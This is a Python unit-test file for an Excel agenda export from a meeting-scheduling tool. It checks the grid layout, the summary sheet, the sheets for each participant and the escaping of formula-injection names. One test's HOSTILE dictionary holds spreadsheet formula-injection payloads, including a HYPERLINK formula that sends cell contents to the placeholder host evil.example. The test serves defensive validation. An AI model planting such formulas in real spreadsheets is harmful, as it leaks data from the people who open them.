from __future__ import annotations

import io
from collections.abc import Callable
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from kakehashi.adapters.exports.agenda_xlsx import master_grid_xlsx
from kakehashi.adapters.exports.plan_view import PlanView

pytestmark = pytest.mark.unit


def test_master_grid_xlsx_places_each_meeting_at_its_slot_and_venue(
    make_plan: Callable[..., PlanView],
) -> None:
    workbook = load_workbook(io.BytesIO(master_grid_xlsx(make_plan())))

    grid = workbook["Grid"]
    rows = [[cell.value for cell in row] for row in grid.iter_rows()]

    assert rows[0] == ["Slot / 時間帯", "Tel Aviv Innovation Hub (Tel Aviv) ×2", "MATAM Park (Haifa) ×1"]
    assert rows[1][1] == "Mitsuba Mobility ↔ RoadSense\n(三葉モビリティ株式会社 ↔ RoadSense)"
    assert rows[2][2] == "Kuroshio Marine ↔ SeaSense <Robotics>"
    assert rows[3][1:] == [None, None]
    assert grid.freeze_panes == "B2"


def test_master_grid_xlsx_has_a_sheet_per_participant_and_a_summary(
    make_plan: Callable[..., PlanView],
) -> None:
    workbook = load_workbook(io.BytesIO(master_grid_xlsx(make_plan())))

    summary = [[c.value for c in row] for row in workbook["Summary"].iter_rows(min_row=2)]

    assert workbook.sheetnames == [
        "Grid",
        "Summary",
        "Mitsuba Mobility",
        "Kuroshio Marine",
        "RoadSense",
        "SeaSense <Robotics>",
    ]
    assert summary[0][2:5] == [2, 1, "83%"]
    assert summary[0][5] == "SeaSense <Robotics>: no common free slot"


def test_master_grid_xlsx_participant_sheet_marks_cancelled_meetings(
    make_plan: Callable[..., PlanView], repaired: Callable[[PlanView], PlanView]
) -> None:
    workbook = load_workbook(io.BytesIO(master_grid_xlsx(repaired(make_plan()))))

    rows = [[c.value for c in row] for row in workbook["Kuroshio Marine"].iter_rows(min_row=3)]

    assert [row[4] for row in rows] == ["Cancelled / 中止"]
    assert rows[0][5] == "m1-bbb"


# Texts that Excel evaluates when a cell starts with =, +, -, @ (formula injection): names are typed by people.
HOSTILE = {
    "mitsuba": '=HYPERLINK("http://evil.example/?leak="&A1,"Mitsuba")',
    "kuroshio": "+1",
    "roadsense": "@SUM(1)",
    "seasense": "-2+3",
}


def _hostile_plan(plan: PlanView) -> PlanView:
    participants = {k: replace(p, name=HOSTILE[k], organization=None) for k, p in plan.participants.items()}
    return replace(plan, name="=1+1", participants=participants)


def test_master_grid_xlsx_writes_names_that_look_like_formulas_as_text(
    make_plan: Callable[..., PlanView],
) -> None:
    workbook = load_workbook(io.BytesIO(master_grid_xlsx(_hostile_plan(make_plan()))))

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]

    assert [c for c in cells if c.data_type == "f"] == []
    assert {(c.data_type, c.quotePrefix) for c in risky} == {("s", True)}
    assert workbook["Grid"]["B2"].value == f"{HOSTILE['mitsuba']} ↔ @SUM(1)"
    assert workbook["Summary"]["A2"].value == HOSTILE["mitsuba"]
    assert [c.value for c in workbook["Summary"][2][2:4]] == [2, 1]  # numbers stay numbers
    assert workbook.worksheets[2]["A1"].value.endswith("— =1+1")


def test_master_grid_xlsx_name_with_a_control_character_still_writes(
    make_plan: Callable[..., PlanView],
) -> None:
    plan = make_plan()
    participants = dict(plan.participants)
    participants["mitsuba"] = replace(participants["mitsuba"], name="Mitsuba\x0bMobility")

    workbook = load_workbook(io.BytesIO(master_grid_xlsx(replace(plan, participants=participants))))

    assert workbook.sheetnames[2] == "Mitsuba Mobility"
    assert workbook["Summary"]["A2"].value.startswith("MitsubaMobility")
